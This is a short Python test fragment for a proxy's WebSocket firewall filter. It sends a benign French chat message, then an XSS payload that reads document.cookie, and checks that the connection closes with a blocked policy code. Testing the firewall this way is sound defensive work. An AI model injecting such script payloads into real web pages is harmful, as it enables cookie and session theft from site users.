    from websockets.sync.client import connect

    port = free_port()
    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
                       WAF_FILTER), port=port)
    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5) as ws:
        hello = json.dumps({"type": "message", "text": "Bonjour, j'ai une question sur ma commande"})
        ws.send(hello)
        assert ws.recv(timeout=10) == hello
        ws.send(json.dumps({"type": "message", "text": "<img src=x onerror=alert(document.cookie)>"}))
        with pytest.raises(ConnectionClosed) as info:
            ws.recv(timeout=10)
    assert info.value.rcvd is not None
    assert (info.value.rcvd.code, info.value.rcvd.reason) == (1008, BLOCKED)
